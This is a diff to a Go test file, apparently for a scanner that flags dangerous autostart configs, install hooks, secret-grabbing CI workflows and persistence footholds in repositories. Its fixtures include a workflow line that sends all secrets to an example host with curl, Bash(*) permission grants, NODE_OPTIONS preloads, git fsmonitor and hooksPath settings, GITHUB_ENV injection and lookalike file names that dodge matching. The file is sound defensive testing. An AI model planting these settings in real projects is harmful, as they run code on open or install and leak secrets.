@@ -33,6 +33,20 @@ func TestAutostart(t *testing.T) {
 		{".windsurf/hooks.json", "autostart", []string{"\"command\": \"x\"\n"}},
 		{".kiro/hooks/a.kiro.hook", "autostart", []string{"{ \"type\": \"runCommand\", \"command\": \"x\" }\n"}},
 		{".kiro/settings/mcp.json", "autostart", []string{"\"command\": \"x\"\n"}},
+		{".claude/settings.json", "autostart", []string{
+			"{ \"extraKnownMarketplaces\": {} }\n", "{ \"permissions\": { \"allow\": [ \"Bash(*)\" ] } }\n",
+			"{ \"env\": { \"NODE_OPTIONS\": \"-r ./x\" } }\n",
+		}},
+		{".claude/skills/a/SKILL.md", "autostart", []string{"---\nhooks:\n  - type: command\n    command: x\n---\n"}},
+		{".opencode/plugin/a.js", "autostart", []string{"export const A = 1;\n"}},
+		{".github/hooks/a.json", "autostart", []string{"{ \"bash\": \"x\" }\n"}},
+		{".factory/settings.json", "autostart", []string{"{ \"hooks\": {} }\n"}},
+		{"crush.json", "autostart", []string{"{ \"mcp\": {} }\n"}},
+		{".nvim.lua", "autostart", []string{"vim.cmd(\"!x\")\n"}},
+		// As HFS+ and Windows take these names.
+		{".cl\u200baude/settings.json", "autostart", []string{"{ \"hooks\": {} }\n"}},
+		{".claude\\settings.json", "autostart", []string{"{ \"hooks\": {} }\n"}},
+		{".mcp.json. ", "autostart", []string{"{ \"mcpServers\": {} }\n"}},
 		{".npmrc", "autostart", []string{"script-shell=./x\n", "node-options=--require ./x.js\n"}},
 		{".claude/settings.json", "", []string{"{ \"permissions\": { \"allow\": [ \"Bash(npm test)\" ] } }\n"}},
 		{".vscode/tasks.json", "", []string{"{ \"tasks\": [ { \"label\": \"build\", \"command\": \"make\" } ] }\n"}},
@@ -41,6 +55,9 @@ func TestAutostart(t *testing.T) {
 			"\"files.eol\": \"\\n\"\n",
 		}},
 		{".devcontainer/devcontainer.json", "", []string{"\"postCreateCommand\": \"npm install\"\n", "\"image\": \"x\"\n"}},
+		{".claude/commands/a.md", "", []string{"Run !`git status`, and say what command it was.\n"}},
+		{".opencode/plugin/a.md", "", []string{"export it\n"}},
+		{".github/hooks.json", "", []string{"{ \"bash\": \"x\" }\n"}},
 		{".envrc", "", []string{"use flake\nexport A=1\nPATH_add bin\n"}},
 		{".npmrc", "", []string{"save-exact=true\n"}},
 		{"tests/fixtures/.vscode/tasks.json", "", []string{"\"runOn\": \"folderOpen\"\n"}},
@@ -59,6 +76,8 @@ func TestInstallHook(t *testing.T) {
 			"  \"prepack\": \"node x.js\"\n", "  \"preprepare\": \"x\"\n", "  \"postinstall\": \"npm run build\"\n",
 		}},
 		{"packages/a/package.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
+		{"pack\u200bage.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
+		{"\uff50ackage.json", "install-hook", []string{"  \"postinstall\": \"node x.js\"\n"}},
 		{"composer.json", "install-hook", []string{
 			"  \"post-install-cmd\": \"php x.php\"\n",
 			"  \"post-install-cmd\": [\n    \"@php artisan a\",\n    \"php x.php\"\n  ]\n",
@@ -91,7 +110,7 @@ func TestInstallHook(t *testing.T) {
 func TestWorkflowGrab(t *testing.T) {
 	check(t, []hits{
 		{".github/workflows/a.yml", "workflow-grab", []string{
-			"env:\n  A: ${{ toJSON(  secrets ) }}\n",
+			"env:\n  A: ${{ toJSON(  secrets ) }}\n", "env:\n  A: ${{ toJSON ( secrets ) }}\n",
 			"env:\n  A: ${{ toJSON(secrets) }}\nrun: curl -d \"$A\" https://a.example\n",
 			"env:\n  A: ${{ toJson( secrets ) }}\nrun: echo \"$A\" | base64\n",
 			"run: curl -d \"x=${{ secrets.TOKEN }}\" https://a.example\n",
@@ -127,6 +146,13 @@ func TestFoothold(t *testing.T) {
 			"(crontab -l; echo x) | crontab -\n",
 			"./config.sh --url https://github.com/a --token x\n", "git config --global core.fsmonitor ./x\n",
 		}},
+		{"tools/a.sh", "foothold", []string{
+			"git config --global core.hooksPath ./x\n", "echo BASH_ENV=$PWD/x >> $GITHUB_ENV\n",
+			"echo \"PYTHONSTARTUP=x\" >> \"$GITHUB_ENV\"\n",
+		}},
+		{"data/repo/config", "foothold", []string{"[core]\n\tfsmonitor = ./x\n", "[core]\n\tsshCommand=x\n"}},
+		{"data/repo/config", "", []string{"[core]\n\tfsmonitor = true\n", "[core]\n\tbare = true\n"}},
+		{"tools/a.sh", "", []string{"git config core.hooksPath .githooks\n", "echo A=1 >> $GITHUB_ENV\n"}},
 		{"tools/a.sh", "", []string{"cat ~/.ssh/authorized_keys\n", "# crontab - | x\n", "git config core.autocrlf false\n"}},
 		{"doc/a.md", "", []string{"echo \"$KEY\" >> ~/.ssh/authorized_keys\n"}},
 	})
